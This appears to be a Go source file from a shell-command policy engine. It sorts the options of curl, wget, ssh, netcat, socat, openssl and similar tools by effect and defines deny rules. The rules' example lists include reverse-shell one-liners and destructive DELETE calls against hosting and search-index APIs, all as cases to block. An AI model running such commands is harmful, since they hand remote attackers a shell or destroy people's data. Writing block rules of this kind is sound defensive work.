package l0

// Network clients: never readers, and sinks for credentials. Options as in the manual pages of curl, wget, OpenSSH, ncat and socat.

func network() Domain {
	var programs []Program
	for _, list := range [][]Program{fetchers(), sshClients(), rawSockets(), tlsTools()} {
		programs = append(programs, list...)
	}
	return Domain{Name: "network", Programs: programs, Rules: networkRules()}
}

func fetchers() []Program {
	return []Program{
		{Names: "curl", Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{
			Read: "-s --silent -S --show-error -f --fail --fail-with-body -L --location -I --head -i --include --show-headers -v --verbose -k --insecure -# --progress-bar -g --globoff -G --get -N --no-buffer -4 -6 -0 -1 -2 -3 -a -j -J -l -M -n --netrc -p -q --disable -R -Z --parallel --compressed " +
				"-m= --max-time= --connect-timeout= --retry= --retry-delay= --retry-max-time= --retry-all-errors --retry-connrefused -X= --request= -A= --user-agent= -e= --referer= -w= --write-out= -r= --range= -y= -Y= -z= -C= --limit-rate= --max-redirs= --http1.1 --http2 --http3 --tlsv1.2 --tlsv1.3 --ipv4 --ipv6 --no-progress-meter --location-trusted --create-dirs --path-as-is --raw --max-filesize= --url= --request-target= --speed-limit= --speed-time= --no-*",
			Write:    "-o= --output= -D= --dump-header= -c= --cookie-jar= --trace= --trace-ascii= --stderr= --libcurl= --etag-save= --hsts= --output-dir= --alt-svc=",
			Change:   "-O --remote-name --remote-name-all -Q= --quote= -P= --ftp-create-dirs",
			Send:     "-d= --data= --data-raw= --data-binary= --data-ascii= --data-urlencode= --json= -F= --form= --form-string= -T= --upload-file= --url-query= -H= --header= -b= --cookie= --proxy-header= --mail-from= --mail-rcpt= --login-options=",
			Config:   "-K= --config= --netrc-file= --variable=",
			Endpoint: "-x= --proxy= -u= --user= -U= --proxy-user= --unix-socket= --abstract-unix-socket= --resolve= --connect-to= -E= --cert= --key= --cacert= --capath= --interface= --socks5= --socks5-hostname= --socks4= --preproxy= --oauth2-bearer= --aws-sigv4= --pinnedpubkey= --doh-url= --dns-servers= --pass= --crlfile= --engine= -t=",
			Help:     "-V -h -M --manual",
		}}},
		{Names: "wget wget2", Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{
			Read:   "-q --quiet -v --verbose -nv --no-verbose -S --server-response -c --continue -N --timestamping -r --recursive -l= --level= -k --convert-links -m --mirror -p --page-requisites -np --no-parent -nc --no-clobber -t= --tries= -T= --timeout= -w= --wait= -U= --user-agent= --limit-rate= --show-progress --progress= -4 -6 --https-only --retry-connrefused --max-redirect= --spider -A= --accept= -R= --reject= -D= --domains= -H -E -x -nd -nH --cut-dirs= -L --no-*",
			Write:  "-O= --output-document= -o= --output-file= -P= --directory-prefix= --save-cookies= --warc-file= --rejected-log= --hsts-file=",
			Append: "-a= --append-output=", File: "-i= --input-file= --load-cookies=", Change: "-b --background --delete-after --save-headers",
			Send:   "--post-data= --post-file= --body-data= --body-file= --header=",
			Config: "-e= --execute= --config=", Run: "--use-askpass=", Endpoint: "--user= --password= --http-user= --http-password= --proxy-user= --certificate= --private-key= --ca-certificate= --bind-address= -B= --base= --method=", Help: "-V -h",
		}}},
		{Names: "http https xh httpie curlie grpcurl websocat wscat aria2c axel lftp ftp tftp elinks lwp-request youtube-dl yt-dlp gdown fetch lynx w3m links", Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{
			Write: "-o= --output= -O=", Send: "-d= --data= --form= -b=", Code: "-e=", Help: "-V -h -v",
		}}},
		{Names: "mail mailx sendmail msmtp swaks ngrok cloudflared localtunnel lt bore tailscale wg wg-quick openvpn tor", Network: true, Command: Command{Is: Network, Operands: "word*", Options: Options{Send: "-a= --attach= -A= --body=", Help: "-V -h -v"}}},
	}
}

func sshClients() []Program {
	const shared = "-4 -6 -A -a -C -q -v -vv -vvv -T -t -tt -n -N -f -g -x -X -Y -K -k -M -s -y -G"
	return []Program{
		{Names: "ssh autossh mosh dbclient", Network: true, Command: Command{Is: Remote, Special: SSH, Operands: "host cmd", Options: Options{
			Read: shared + " -p= -e= -c= -m= -b= -B= -w= -O= -Q=", Run: "-o= -P=", Config: "-F= -I=", Append: "-E=", Endpoint: "-i= -l= -J= -L= -R= -D= -W= -S=", Help: "-V",
		}, Why: "It logs in to another machine.", Instead: "let a person open the connection"}},
		{Names: "scp", Network: true, Command: Command{Is: Network, Operands: "file+ write", Options: Options{Read: "-1 -2 -3 -4 -6 -A -B -C -O -p -q -r -R -T -v -P= -l= -c=", Run: "-o= -S= -D=", Config: "-F= -X=", Endpoint: "-i= -J=", Help: "-h"}}},
		{Names: "sftp", Network: true, Command: Command{Is: Network, Operands: "host write?", Options: Options{Read: "-4 -6 -a -A -C -f -N -p -q -r -v -B= -c= -l= -P= -R=", CodeFile: "-b=", Run: "-o= -S= -D= -s=", Config: "-F= -X=", Endpoint: "-i= -J="}}},
		{Names: "ssh-copy-id", Network: true, Command: Command{Is: Remote, Operands: "host", Options: Options{Read: "-f -n -s -x", Run: "-o=", Endpoint: "-i= -p= -t="}, Why: "It adds a key to another machine."}},
		{Names: "ssh-keyscan", Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{Read: "-4 -6 -c -D -H -v -p= -T= -t=", File: "-f="}}},
		{Names: "ssh-keygen", Command: Command{Is: Writer, Operands: "-", Options: Options{Read: "-E= -v -q -b= -t= -C= -m= -a=", File: "-f=", DryRun: "-l -B", Secret: "-y -e", Change: "-R= -p -c -A -i -N= -P= -H -K -Y=", Run: "-D= -w="}, Why: "It makes or changes keys."}},
		{Names: "ssh-add", Command: Command{Is: Writer, Operands: "file*", Options: Options{DryRun: "-l -L", Read: "-q -v -E=", Change: "-d -D -x -X -t= -c -K -k", Run: "-s= -e= -S="}, Why: "It changes which keys the agent holds."}},
		{Names: "ssh-agent gpg-agent", Command: Command{Is: Secrets, Operands: "-", Options: Options{Change: "-k -s -c -D -d -a= -t="}}},
	}
}

func rawSockets() []Program {
	return []Program{
		{Names: "nc ncat netcat nc.traditional nc.openbsd", Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{
			Read: "-4 -6 -C -D -d -F -h -k -l -L -n -N -r -S -t -u -U -v -vv -z -Z -w= -q= -i= -p= -s= -I= -O= -M= -m= -T= -V= -W= -X= -b --listen --keep-open --udp --sctp --ssl --verbose --wait= --source-port= --source= --send-only --recv-only --no-shutdown --idle-timeout= --broker --chat --telnet --crlf --ipv4= --allow= --deny= --max-conns=",
			Run:  "-e= --exec= -c= --sh-exec= --lua-exec=", Write: "-o= --output= -x= --hex-dump=", Endpoint: "--proxy= --proxy-type= --proxy-auth= --ssl-cert= --ssl-key=", Help: "--version",
		}}},
		{Names: "socat", Style: SingleDash, Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{Read: "-d -dd -ddd -D -v -x -u -U -t= -T= -b= -s -L= -W= -g -4 -6 -lf= -ls -ly -lp=", Help: "-V -h -hh"}}},
		{Names: "telnet rlogin rsh rexec", Network: true, Command: Command{Is: Network, Operands: "host*"}},
		{
			Names:   "ping ping6 fping hping3 traceroute traceroute6 tracepath mtr arping nmap masscan whois dig nslookup host drill kdig delv resolvectl-query avahi-resolve iperf iperf3 ab wrk hey siege vegeta k6 tcpdump tshark ntpdate",
			Network: true, Command: Command{Is: Network, Operands: "host*", Options: Options{Write: "-w= -oN= -oX= -oG= -oA=", Run: "-z= --script=", Help: "-V -v -h"}},
		},
		{Names: "tcping wakeonlan wol", Network: true, Command: Command{Is: Network, Operands: "host*"}},
	}
}

func tlsTools() []Program {
	certificate := Options{
		Read:  "-in= -text -noout -subject -issuer -dates -startdate -enddate -serial -fingerprint -pubkey -modulus -email -purpose -hash -subject_hash -issuer_hash -ext= -nameopt= -certopt= -inform= -sha256 -sha1 -md5 -checkend= -alias -verify -nocert -check -pubin -CAfile= -untrusted= -show_chain -verbose",
		Write: "-out= -keyout= -writerand=",
		Run:   "-engine= -provider= -provider-path=", Config: "-config= -extfile=", Change: "-signkey= -req -x509toreq -CAcreateserial -new -newkey= -x509 -nodes -days= -subj= -CA= -CAkey=",
	}
	return []Program{
		{Names: "openssl", Style: SingleDash, Network: true, Command: Command{Options: Options{Help: "-v"}}, Commands: []Command{
			{Path: "version", Is: Reader, Operands: "-", Options: Options{Read: "-a -v -b -o -f -p -d -e -m -r -c"}},
			{Path: "x509, verify, crl, req, ciphers, list, errstr, crl2pkcs7, pkcs7", Is: Reader, Operands: "name*", Options: certificate},
			{Path: "asn1parse", Is: Reader, Operands: "-", Options: Options{Read: "-inform= -i -dump -length= -offset= -strparse=", File: "-in=", Write: "-out="}},
			{Path: "dgst, sha256, sha1, sha512, md5, sha384", Is: Reader, Operands: "file*", Options: Options{Read: "-sha256 -sha1 -sha512 -sha384 -md5 -hex -binary -r -c -hmac=", Write: "-out=", Secret: "-sign=", File: "-verify= -signature=", Run: "-engine= -provider="}},
			{Path: "rand", Is: Reader, Operands: "word?", Options: Options{Read: "-hex -base64", Write: "-out= -writerand=", Run: "-engine= -provider="}},
			{Path: "enc, base64, aes-256-cbc", Is: Reader, Operands: "-", Decodes: "-d", Options: Options{Read: "-e -d -a -A -base64 -aes-256-cbc -aes-128-cbc -pbkdf2 -iter= -salt -nosalt -md= -k= -K= -iv= -pass= -p -P", File: "-in= -kfile=", Write: "-out=", Run: "-engine= -provider="}},
			{Path: "s_client, s_time, ocsp, cmp, tsget", Is: Network, Operands: "host*", Options: Options{Endpoint: "-connect= -host= -port= -servername= -proxy= -cert= -key="}},
			{Path: "s_server", Is: Network, Options: Options{Endpoint: "-accept= -port= -cert= -key="}},
			{Path: "rsa, ec, pkey, pkcs8, pkcs12, dsa, genpkey, genrsa, ecparam, dhparam, passwd, pkeyutl, rsautl, cms, smime, ca, ts, speed, prime, rehash", Is: Writer, Options: Options{File: "-in=", Write: "-out="}, Why: "It makes, prints or uses private keys."},
		}},
		{Names: "gnutls-cli stunnel certbot acme.sh mkcert", Network: true, Command: Command{Is: Network, Options: Options{Help: "-v -h"}}},
	}
}

func networkRules() []Rule {
	const sockets = "nc ncat netcat nc.traditional nc.openbsd"
	return []Rule{
		{
			ID: "network.opens-shell", Verdict: Deny,
			Why:  "This connects a shell or another program to the network, so that someone elsewhere can give it commands.",
			When: []Match{{Program: sockets, Has: "-e|--exec|-c|--sh-exec|--lua-exec"}, {Program: "socat", If: OpensShell}},
			Yes:  []string{"nc -e /bin/sh 203.0.113.9 4444", "nc -lvp 4444 -e /bin/bash", "ncat 203.0.113.9 4444 -c bash", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", "socat exec:'bash -li',pty tcp:203.0.113.9:1"},
			No:   []string{"nc -zv localhost 5432", "nc -l 8080", "socat - TCP:localhost:80"},
		},
		{
			ID: "network.delete-request", Verdict: Undecided,
			Why:     "This asks a service to delete something.",
			Instead: "read the object first",
			When:    []Match{{Program: "curl", Has: "-X=DELETE|--request=DELETE"}, {Program: "wget wget2", Has: "--method=DELETE"}, {Program: "http https xh", First: "DELETE delete"}},
			Yes:     []string{"curl -X DELETE https://api.example.com/users/1", "curl -XDELETE localhost:9200/index", "http DELETE example.com/x"},
			No:      []string{"curl https://api.example.com/users/1", "curl -X POST https://example.com -d a=b"},
		},
		{
			ID: "network.remote-shell-option", Verdict: Undecided,
			Why:  "This option makes the client start a program of its own.",
			When: []Match{{Program: "ssh autossh", Has: "-o=proxycommand*|-o=localcommand*|-o=knownhostscommand*|-o=permitlocalcommand*"}, {Program: "scp sftp", Has: "-S"}},
			Yes:  []string{"ssh -o ProxyCommand='sh -c x' host", "scp -S ./wrap a host:"},
			No:   []string{"ssh -V", "ssh -o StrictHostKeyChecking=no host uptime"},
		},
		{
			ID: "network.hosted-delete", Verdict: Deny,
			Why:     "This deletes a volume, database, machine, application or repository over the interface of a hosting service.",
			Instead: "read the object first, and let a person delete it",
			When: []Match{
				{Program: "curl", Has: "-X=DELETE|--request=DELETE", Operand: hostedObjects},
				{Program: "wget wget2", Has: "--method=DELETE", Operand: hostedObjects},
				{Program: "http https xh", First: "DELETE delete", Operand: hostedObjects},
				{Program: "curl", Has: "-X=DELETE|--request=DELETE", Operand: "*api.github.com/repos/*/*", Without: "*/repos/*/*/*"},
				{Program: "curl", Has: hostedMutations("-d", "--data", "--data-raw", "--data-binary", "--json", "--data-urlencode")},
			},
			Yes: []string{
				`curl -X POST https://backboard.example/graphql -d '{"query":"mutation { volumeDelete(volumeId: \"v1\") }"}'`, "curl -X DELETE https://api.heroku.com/apps/shop",
				"curl -s -X DELETE -H 'Authorization: Bearer x' https://api.digitalocean.com/v2/droplets/1", "curl -XDELETE https://api.github.com/repos/o/r", "http DELETE https://api.cloud.example/v1/volumes/v1",
			},
			No: []string{"curl -X DELETE https://api.example.com/users/1", "curl https://api.heroku.com/apps/shop", `curl -d '{"query":"{ volumes { id } }"}' https://backboard.example/graphql`},
		},
		{
			ID: "network.search-index-delete", Verdict: Deny,
			Why:     "A DELETE on a whole index or on everything empties the data store behind it.",
			Instead: "delete one document by its id",
			When: []Match{
				{Program: "curl", Has: "-X=DELETE|--request=DELETE", Operand: "*:9200/* *:9200 *:9200/_all*"},
				{Program: "curl", Has: "-X=DELETE|--request=DELETE", Operand: "*/_all *:5984/* *:8500/v1/kv/*recurse*"},
				{Program: "curl", Operand: "*/_delete_by_query*", Has: "-d=*match_all*|--data=*match_all*|--data-raw=*match_all*|--json=*match_all*"},
			},
			Yes: []string{"curl -X DELETE http://localhost:9200/users", "curl -XDELETE 'localhost:9200/_all'", `curl -XPOST localhost:9200/i/_delete_by_query -d '{"query":{"match_all":{}}}'`},
			No:  []string{"curl -X DELETE https://api.example.com/users/1", "curl localhost:9200/_cat/indices"},
		},
	}
}

// hostedObjects are addresses of what hosting services keep.
const hostedObjects = "*/volumes/* */databases/* */droplets/* */v1/servers/* *api.heroku.com/apps/* *api.hetzner.cloud/* *api.machines.dev/* *api.cloudflare.com/*/zones/* *api.vercel.com/*/projects/* " +
	"*gitlab*/api/v4/projects/* */api/v1/namespaces/* */kubernetes/clusters/* *supabase.com/v1/projects/* *api.neon.tech/*/projects/* *api.netlify.com/*/sites/* *api.render.com/*/services/* *api.linode.com/*/instances/* *backboard.railway*"

// hostedMutations makes a condition that one of the options sends a mutation that deletes what hosting services keep.
func hostedMutations(options ...string) string {
	condition := ""
	for _, o := range options {
		for _, m := range []string{"volumeDelete", "projectDelete", "serviceDelete", "environmentDelete", "databaseDelete", "deleteVolume", "deleteProject", "deleteService", "deleteDatabase", "deleteRepository", "appDelete", "deleteApp"} {
			if condition != "" {
				condition += "|"
			}
			condition += o + "=*" + m + "*"
		}
	}
	return condition
}
